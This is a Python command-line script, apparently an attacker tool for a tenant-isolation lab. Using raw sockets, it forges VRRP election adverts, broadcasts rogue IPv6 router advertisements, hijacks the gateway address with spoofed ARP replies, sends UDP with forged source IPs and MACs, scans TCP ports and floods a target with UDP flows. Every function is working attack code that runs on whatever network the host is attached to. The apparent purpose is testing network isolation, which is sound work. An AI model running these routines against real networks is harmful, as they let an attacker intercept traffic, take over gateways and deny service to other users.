"""What a tenant on the VLAN can try, with the standard library alone: `attacker.py VERB ARGUMENTS…`, JSON on stdout.

Run as a file inside a client of the lab.
"""

from __future__ import annotations

import json
import random
import select
import socket
import struct
import sys
import time

INTERFACE = "eth0"
BROADCAST = "ff:ff:ff:ff:ff:ff"


def mac_bytes(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def raw() -> socket.socket:
    port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    port.bind((INTERFACE, 0))
    return port


def own_mac(port: socket.socket) -> bytes:
    return bytes(port.getsockname()[4])


def checksum(data: bytes) -> int:
    padded = data + b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_packet(source: str, target: str, protocol: int, payload: bytes, ttl: int = 255) -> bytes:
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), random.getrandbits(16), 0, ttl, protocol, 0) + addresses
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(source_port: int, target_port: int, data: bytes) -> bytes:
    return struct.pack("!HHHH", source_port, target_port, 8 + len(data), 0) + data


def vrrp(source: str, target: str, priority: int, vip: str, router_id: int) -> bytes:
    """A VRRPv3 advert (RFC 9568 section 5.2), every 100 ms."""
    body = struct.pack("!BBBBHH", 0x31, router_id, priority, 1, 10, 0) + socket.inet_aton(vip)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 112, len(body))
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


def frame(target_mac: str, source_mac: bytes, packet: bytes, ethertype: int = 0x0800) -> bytes:
    return mac_bytes(target_mac) + source_mac + struct.pack("!H", ethertype) + packet


def adverts(seconds: str, source: str, target: str, target_mac: str, vip: str, router_id: str, priority: str) -> object:
    """Claims the election in the peer's name."""
    port = raw()
    packet = ip_packet(source, target, 112, vrrp(source, target, int(priority), vip, int(router_id)))
    return repeat(port, [frame(target_mac, own_mac(port), packet)], float(seconds), 0.01)


def routers(seconds: str) -> object:
    """Calls itself the IPv6 router, before all others, for half an hour."""
    port = raw()
    source, target = socket.inet_pton(socket.AF_INET6, "fe80::bad"), socket.inet_pton(socket.AF_INET6, "ff02::1")
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + struct.pack("!BB", 1, 1) + own_mac(port)
    pseudo = source + target + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    packet = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target + body
    return repeat(port, [frame("33:33:00:00:00:01", own_mac(port), packet, 0x86DD)], float(seconds), 0.1)


def datagrams(
    count: str, source: str, target: str, target_mac: str, target_port: str, source_mac: str, data: str
) -> object:
    """Speaks to a port of a node in somebody's name, with somebody's MAC (empty: our own)."""
    port = raw()
    mac = mac_bytes(source_mac) if source_mac else own_mac(port)
    packet = ip_packet(source, target, 17, udp(int(target_port), int(target_port), data.encode()))
    for _ in range(int(count)):
        port.send(frame(target_mac, mac, packet))
        time.sleep(0.005)
    return {"sent": int(count)}


def hijack(seconds: str, vip: str) -> object:
    """Tells everybody that the gateway is here."""
    port = raw()
    mac, address = own_mac(port), socket.inet_aton(vip)
    claim = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + address + mac_bytes(BROADCAST) + address
    done = repeat(port, [frame(BROADCAST, mac, claim, 0x0806)], float(seconds), 0.25)
    return {**done, "mac": ":".join(f"{byte:02x}" for byte in mac)}


def spoof(gateway_mac: str, target: str, target_port: str, *sources: str) -> object:
    """Sends through the gateway with sources that are not ours."""
    port = raw()
    frames = [
        frame(gateway_mac, own_mac(port), ip_packet(source, target, 17, udp(4444, int(target_port), source.encode())))
        for source in sources
    ]
    return repeat(port, frames, 0.2, 0.01)


def repeat(port: socket.socket, frames: list[bytes], seconds: float, pause: float) -> dict[str, object]:
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for one in frames:
            port.send(one)
            sent += 1
        time.sleep(pause)
    return {"sent": sent}


def scan(ports: str, *targets: str) -> object:
    """Which TCP ports answer, and how: open, refused, or an error of ICMP."""
    numbers = [int(number) for part in ports.split(",") for number in _range(part)]
    found: dict[str, list[str]] = {}
    waiting: dict[socket.socket, tuple[str, int]] = {}
    for target in targets:
        for number in numbers:
            line = socket.socket()
            line.setblocking(False)
            line.connect_ex((target, number))
            waiting[line] = (target, number)
        _gather(waiting, found, 0.3)
    _gather(waiting, found, 1.5)
    return {"asked": len(numbers) * len(targets), "answers": found}


def _range(part: str) -> range:
    first, _, last = part.partition("-")
    return range(int(first), int(last or first) + 1)


def _gather(waiting: dict[socket.socket, tuple[str, int]], found: dict[str, list[str]], seconds: float) -> None:
    poll = select.poll()
    by_number = {line.fileno(): line for line in waiting}
    for number in by_number:
        poll.register(number, select.POLLOUT)
    end = time.monotonic() + seconds
    while by_number and time.monotonic() < end:
        for number, _ in poll.poll(50):
            line = by_number.pop(number)
            poll.unregister(number)
            error = line.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            target, asked = waiting.pop(line)
            found.setdefault("open" if not error else str(error), []).append(f"{target}:{asked}")
            line.close()


def flood(seconds: str, target: str) -> object:
    """New UDP flows as fast as they can be opened: another pair of ports each."""
    end, sent, lines = time.monotonic() + float(seconds), 0, []
    while time.monotonic() < end:
        line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        line.setblocking(False)
        lines.append(line)
        if len(lines) > 500:
            lines.pop(0).close()
        for number in range(2000, 3000):
            try:
                line.sendto(b"x", (target, number))
                sent += 1
            except OSError:
                pass
            if time.monotonic() >= end:
                break
    return {"sent": sent}


def connects(seconds: str, target: str, target_port: str) -> object:
    """A well-behaved client: twenty new connections a second; how many succeed within a second."""
    end, tried, failed, slowest = time.monotonic() + float(seconds), 0, 0, 0.0
    while (began := time.monotonic()) < end:
        tried += 1
        try:
            socket.create_connection((target, int(target_port)), 1).close()
        except OSError:
            failed += 1
        slowest = max(slowest, time.monotonic() - began)
        time.sleep(max(0.0, 0.05 - (time.monotonic() - began)))
    return {"tried": tried, "failed": failed, "slowest_ms": round(slowest * 1000)}


VERBS = {verb.__name__: verb for verb in (adverts, routers, datagrams, hijack, spoof, scan, flood, connects)}

if __name__ == "__main__":
    print(json.dumps(VERBS[sys.argv[1]](*sys.argv[2:])))  # noqa: T201
